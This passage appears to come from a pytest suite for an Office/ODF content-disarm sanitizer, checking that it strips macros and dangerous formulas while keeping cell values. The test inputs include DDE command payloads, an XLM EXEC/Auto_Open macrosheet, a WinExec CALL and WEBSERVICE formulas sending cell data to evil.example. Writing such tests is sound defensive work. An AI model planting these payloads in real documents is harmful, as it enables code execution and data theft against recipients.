                                       ("xl/worksheets/sheet1.xml", SML + "worksheet+xml"),
                                       ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")])),
        ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
                                            ("rId2", MSRT + "2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml"))),
        ("xl/worksheets/sheet1.xml", sheet('<row r="1"><c r="A1"><v>42</v></c><c r="B1" t="inlineStr"><is><t>残す</t></is></c></row>')),
        ("xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
         'xmlns="%s"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>' % S),
    ])
    rep, out = ok(src, "xlm.xlsm")
    assert (rep["type"], rep["out_type"]) == ("xlsm", "xlsx")
    p = assert_ooxml_allowlisted(out)
    assert not any("macrosheet" in n for n in p)
    assert b"macrosheet" not in b"".join(p.values()).lower() and b"Auto_Open" not in p["xl/workbook.xml"]
    assert b"Macro1" not in p["xl/workbook.xml"] and "合計".encode() in p["xl/workbook.xml"]
    s = p["xl/worksheets/sheet1.xml"]
    assert b"<v>42</v>" in s and "残す".encode() in s
    assert "macro-removed: xl/macrosheets/sheet1.xml" in rep["actions"]
    assert "macro-removed: name _xlnm.Auto_Open" in rep["actions"]
    assert "type-converted: xlsm to xlsx" in rep["actions"]


def test_formulas_everywhere_checked_cached_values_stay():
    rows = ('<row r="1"><c r="A1"><f>HYPERLINK("https://evil.example/","clic")</f><v>clic</v></c>'
            '<c r="B1"><f>_xlfn.IMAGE("https://evil.example/p.png")</f><v>0</v></c>'
            '<c r="C1" t="str"><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A2)</f><v>応答</v></c>'
            '<c r="D1"><f>SUM(A2:A3)</f><v>3</v></c>'
            '<c r="E1"><f>cmd|\' /c calc\'!A0</f><v>0</v></c>'
            '<c r="F1"><f>[1]Sheet1!A1</f><v>5</v></c></row>'
            '<row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">CALL("kernel32","WinExec","JCJ","calc",0)</f><v>1</v></c></row>'
            '<row r="3"><c r="A3"><f t="shared" si="0"/><v>2</v></c></row>')
    after = ('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>cmd|\'/c calc\'!A0</formula></cfRule>'
             '<cfRule type="expression" priority="2"><formula>A1&gt;1</formula></cfRule></conditionalFormatting>'
             '<dataValidations count="2"><dataValidation type="list" sqref="B2"><formula1>DDE("cmd","/c calc","x")</formula1></dataValidation>'
             '<dataValidation type="whole" sqref="B3"><formula1>1</formula1><formula2>10</formula2></dataValidation></dataValidations>')
    names = ('<definedNames><definedName name="evil">cmd|\'/c calc\'!A0</definedName>'
             '<definedName name="ok">SUM(表!$A$1)</definedName></definedNames>')
    rep, out = ok(xlsx(sheet(rows, after), names), "f.xlsx")
    p = assert_ooxml_allowlisted(out)
    s = p["xl/worksheets/sheet1.xml"].decode()
    for bad in ("HYPERLINK", "IMAGE", "WEBSERVICE", "calc", "[1]", "CALL", "evil"):
        assert bad not in s, bad
    assert "<f>SUM(A2:A3)</f><v>3</v>" in s
    for v in ("<v>clic</v>", "<v>0</v>", "<v>5</v>", "<v>1</v>", "<v>2</v>"):
        assert v in s, v
    root = ET.fromstring(s)
    c1 = root.find(".//{%s}c[@r='C1']" % S)
    assert c1.get("t") == "inlineStr" and "".join(c1.itertext()) == "応答"
    assert s.count("<cfRule") == 1 and "A1&gt;1" in s and s.count("<dataValidation ") == 1
    wb = p["xl/workbook.xml"]
    assert b"evil" not in wb and b'name="ok"' in wb
    for a in ("formula-removed: sheet1!A1 (function HYPERLINK not allowed)",
              "formula-removed: sheet1!B1 (function _XLFN.IMAGE not allowed)",
              "formula-removed: sheet1!E1 (DDE)",
              "formula-removed: sheet1!F1 (external workbook reference)",
              "formula-removed: sheet1!A3 (shared formula)",
              "formula-removed: workbook!evil (DDE)"):
        assert a in rep["actions"], a


def test_connections_querytables_external_links_dropped():
    conn = ('<connections xmlns="%s"><connection id="1" name="q" type="4" refreshOnLoad="1" '
            'odcFile="\\\\evil\\share\\q.odc"><webPr url="https://evil.example/data"/></connection></connections>' % S)
    src = xlsx(sheet('<row r="1"><c r="A1"><v>9</v></c></row>'),
               extra=[("xl/connections.xml", conn),
                      ("xl/queryTables/queryTable1.xml", '<queryTable xmlns="%s" name="q" connectionId="1"/>' % S),
                      ("xl/worksheets/_rels/sheet1.xml.rels", rels(("rId1", "queryTable", "../queryTables/queryTable1.xml")))],
               wb_rels=[("rId5", "connections", "connections.xml")],
               overrides=[("xl/connections.xml", SML + "connections+xml"),
                          ("xl/queryTables/queryTable1.xml", SML + "queryTable+xml")])
    rep, out = ok(src, "c.xlsx")
    p = assert_ooxml_allowlisted(out)
    assert "xl/connections.xml" not in p and "xl/queryTables/queryTable1.xml" not in p
    assert b"evil" not in b"".join(p.values()) and b"<v>9</v>" in p["xl/worksheets/sheet1.xml"]
    assert "part-removed: xl/connections.xml" in rep["actions"]


def test_chart_reference_to_another_workbook_becomes_a_literal():
    C = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    chart = ('<c:chartSpace xmlns:c="%s" xmlns:r="%s"><c:chart><c:plotArea><c:barChart><c:ser>'
             '<c:tx><c:strRef><c:f>[1]S!$B$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>系列名</c:v></c:pt>'
             '</c:strCache></c:strRef></c:tx>'
             '<c:val><c:numRef><c:f>\'\\\\evil\\s\\[b.xlsx]S\'!$A$1:$A$2</c:f><c:numCache><c:ptCount val="2"/>'
             '<c:pt idx="0"><c:v>11</c:v></c:pt><c:pt idx="1"><c:v>22</c:v></c:pt></c:numCache></c:numRef></c:val>'
             '<c:cat><c:numRef><c:f>表!$A$1:$A$2</c:f><c:numCache><c:ptCount val="2"/></c:numCache></c:numRef></c:cat>'
             '</c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>' % (C, R))
    drawing = ('<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
               'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="%s" xmlns:c="%s">'
               '<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="1" cy="1"/><xdr:graphicFrame macro="">'
               '<xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="g"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
               '<xdr:xfrm/><a:graphic><a:graphicData uri="%s"><c:chart r:id="rId1"/></a:graphicData></a:graphic>'
               '</xdr:graphicFrame><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>' % (R, C, C))
    src = xlsx(sheet('<row r="1"><c r="A1"><v>11</v></c></row>', '<drawing r:id="rId1"/>'),
               extra=[("xl/worksheets/_rels/sheet1.xml.rels", rels(("rId1", "drawing", "../drawings/drawing1.xml"))),
                      ("xl/drawings/drawing1.xml", drawing),
                      ("xl/drawings/_rels/drawing1.xml.rels", rels(("rId1", "chart", "../charts/chart1.xml"))),
                      ("xl/charts/chart1.xml", chart)],
               overrides=[("xl/drawings/drawing1.xml", OD + "drawing+xml"),
                          ("xl/charts/chart1.xml", OD + "drawingml.chart+xml")])
    rep, out = ok(src, "chart.xlsx")
    p = assert_ooxml_allowlisted(out)
    c = p["xl/charts/chart1.xml"].decode()
    assert "evil" not in c and "[1]" not in c and "[b.xlsx]" not in c
    assert "<c:tx><c:v>系列名</c:v></c:tx>" in c
    assert "<c:numLit><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>11</c:v></c:pt>" in c
    assert "<c:f>表!$A$1:$A$2</c:f>" in c
    assert "formula-removed: chart!chart1 (external workbook reference) (x2)" in rep["actions"]


def test_pptx_macro_and_program_actions_removed_slide_jump_stays():
    P = "http://schemas.openxmlformats.org/presentationml/2006/main"
    A = "http://schemas.openxmlformats.org/drawingml/2006/main"
    def sp(action, text):
        return ('<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"><a:hlinkClick r:id="" action="%s"/></p:cNvPr>'
                '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>%s</a:t></a:r></a:p>'
                '</p:txBody></p:sp>' % (action, text))
    slide = ('<p:sld xmlns:p="%s" xmlns:a="%s" xmlns:r="%s"><p:cSld><p:spTree>%s%s%s</p:spTree></p:cSld></p:sld>'
             % (P, A, R, sp("ppaction://macro?name=Evil", "マクロ"), sp("ppaction://program", "実行"),
                sp("ppaction://hlinkshowjump?jump=nextslide", "次へ")))
    pres = ('<p:presentation xmlns:p="%s" xmlns:r="%s"><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
            '</p:presentation>' % (P, R))
    src = make_zip([
        ("[Content_Types].xml", types([("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
                                       ("ppt/slides/slide1.xml", PML + "slide+xml")])),
        ("_rels/.rels", rels(("rId1", "officeDocument", "ppt/presentation.xml"))),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels(("rId1", "slide", "slides/slide1.xml"))),
        ("ppt/slides/slide1.xml", slide)])
    rep, out = ok(src, "a.pptm")
    assert (rep["type"], rep["out_type"]) == ("pptm", "pptx")
    p = assert_ooxml_allowlisted(out)
    s = p["ppt/slides/slide1.xml"].decode()
    assert "macro?" not in s and "program" not in s and "ppaction://hlinkshowjump?jump=nextslide" in s
    assert all(t in s for t in ("マクロ", "実行", "次へ"))
    assert "attribute-removed: action of <hlinkClick> in ppt/slides/slide1.xml (x2)" in rep["actions"]


# ---- ODF ------------------------------------------------------------------------------

def test_ods_webservice_dde_hyperlink_formulas_removed_values_stay():
    m = "urn:oasis:names:tc:opendocument:xmlns:"
    cells = ('<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://evil.example/?q=&quot;&amp;[.B1])" '
             'office:value-type="string" office:string-value="応答"><text:p>応答</text:p></table:table-cell>'
             '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)" '
             'office:value-type="float" office:value="4"><text:p>4</text:p></table:table-cell>'
             '<table:table-cell table:formula="of:=HYPERLINK(&quot;https://evil.example/&quot;)" '
             'office:value-type="string"><text:p>リンク</text:p></table:table-cell>'
             '<table:table-cell table:formula="of:=SUM([.A2:.A3])" office:value-type="float" office:value="3">'
             '<text:p>3</text:p></table:table-cell>'
             "<table:table-cell table:formula=\"of:=['file:///C:/x.ods'#$Sheet1.A1]\" office:value-type=\"float\" "
             'office:value="8"><text:p>8</text:p></table:table-cell>'
             '<table:table-cell table:formula="msoxl:=[1]Sheet1!A1" office:value-type="float" office:value="6">'
             '<text:p>6</text:p></table:table-cell>')
    content = ('<office:document-content xmlns:office="{m}office:1.0" xmlns:text="{m}text:1.0" '
               'xmlns:table="{m}table:1.0" xmlns:style="{m}style:1.0"><office:body><office:spreadsheet>'
               '<table:content-validations><table:content-validation table:name="v1" '
               'table:condition="of:is-true-formula(WEBSERVICE(&quot;https://evil.example/&quot;))"/>'
               '<table:content-validation table:name="v2" table:condition="of:cell-content-is-whole-number() and cell-content()&gt;1"/>'
               '</table:content-validations><table:named-expressions><table:named-expression table:name="x" '
               'table:expression="of:WEBSERVICE(&quot;https://evil.example/&quot;)"/></table:named-expressions>'
               '<table:table table:name="表1"><table:table-row>{c}</table:table-row></table:table>'
               '</office:spreadsheet></office:body></office:document-content>').format(m=m, c=cells)
    src = make_zip([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                    ("content.xml", content),
                    ("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="%smanifest:1.0">'
                     '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                     '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>' % m)],
                   zipfile.ZIP_STORED)
    rep, out = ok(src, "w.ods")
    p = assert_odf_allowlisted(out)
    c = p["content.xml"].decode()
    assert "evil" not in c and "DDE" not in c and "file:" not in c
    assert 'of:=SUM([.A2:.A3])' in c and "cell-content-is-whole-number" in c
    for v in ("応答", 'office:value="4"', "リンク", 'office:value="8"'):
        assert v in c, v
    assert "formula-removed: 表1!A1 (function WEBSERVICE not allowed)" in rep["actions"]
    assert "formula-removed: 表1!B1 (function DDE not allowed)" in rep["actions"]
    assert "formula-removed: 表1!E1 (external document reference)" in rep["actions"]
    assert "formula-removed: 表1!F1 (external workbook reference)" in rep["actions"] and 'office:value="6"' in c


# ---- every output of the corpus and the seeds -------------------------------------

def _mail_attachments(root):
    """(name, bytes) of every zip-looking attachment of the messages under root."""
    import email
    import email.policy
    for dp, _, fn in os.walk(root):
        for f in sorted(fn):
            try:
                m = email.message_from_bytes(open(os.path.join(dp, f), "rb").read(),
                                             policy=email.policy.compat32)
                for part in m.walk():
                    d = None if part.is_multipart() else part.get_payload(decode=True)
                    if d and d[:2] == b"PK":
                        yield "%s/%s" % (f, part.get_filename() or "attachment.zip"), d
            except Exception:
                continue


def corpus_files():
    """(label, bytes) of every zip-based input: the whole shared file corpus,
    the zip fuzz seeds, and the zip attachments of the project's samples and
    of the shared mail corpus."""
    for r in (CORPUS, os.path.join(ROOT, "fuzz", "corpus", "fuzz_cdr_zip")):
        for dp, _, fn in os.walk(r):
            for f in sorted(fn):
                path = os.path.join(dp, f)
                with open(path, "rb") as fh:
                    data = fh.read()
                if data[:2] == b"PK":
                    yield path, data
    for r in (os.path.join(ROOT, "samples"), os.path.join(CORPUS, "..", "mail")):
        yield from _mail_attachments(r)


def check_allowlisted(out, where, depth=0):
    """Check a zip output; recurse into a plain archive's entries (a docx
    inside a zip is rebuilt too). Returns the number of packages checked."""
    z = zipfile.ZipFile(io.BytesIO(out))
    names = z.namelist()
    if "[Content_Types].xml" in names:
        assert_ooxml_allowlisted(out)
        return 1
    if "mimetype" in names:
        assert_odf_allowlisted(out)
        return 1
    seen = 0
    for n in names:
        d = z.read(n)
        if d[:2] == b"PK" and depth < 8:
            seen += check_allowlisted(d, "%s/%s" % (where, n), depth + 1)
    return seen


@pytest.mark.skipif(not os.path.isdir(os.path.join(CORPUS, "office")), reason="no shared corpus")
def test_every_corpus_output_is_within_the_allowlists():
    seen = inputs = 0
    for label, data in corpus_files():
        inputs += 1
        name = os.path.basename(label)
        if "." not in name:
            name += ".zip"
        rc, rep, out = sanitize(data, name)
        assert rc == 0 and rep, label
        if rep["verdict"] != "sanitized" or not out or rep.get("out_type") == "pdf":
            continue  # pdf: converted in the jail and flattened (test_file_legacy.py)
        seen += check_allowlisted(out, label)
    print("corpus walk: %d inputs, %d packages checked" % (inputs, seen))
    assert inputs >= 60 and seen >= 40, (inputs, seen)


def test_walk_checks_packages_nested_in_plain_archives():
    """The walk above must also see a macro package inside a plain zip."""
    raw = make_zip([("in/a.docx", docx('<w:p>%s</w:p>' % fld(" DD", "E cmd ")))])
    with pytest.raises(AssertionError):
        check_allowlisted(raw, "raw")
    rep, out = ok(raw, "a.zip")
    assert check_allowlisted(out, "out") == 1


def test_the_independent_checker_rejects_the_hostile_inputs():
    """The walk above proves something only if the checker fails on what
    CDR removes: run it on raw inputs."""
    raw = [docx('<w:p>%s</w:p>' % fld(" DD", "E cmd ")),
           docx('<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://x.example/&quot; "/></w:p>'),
           xlsx(sheet('<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://x.example/")</f></c></row>')),
           xlsx(sheet('<row r="1"><c r="A1"><f>[1]S!A1</f></c></row>')),
           docx('<w:p><w:r><w:pict><v:shape href="https://x.example/"/></w:pict></w:r></w:p>')]
    for data in raw:
        with pytest.raises(AssertionError):
            assert_ooxml_allowlisted(data)
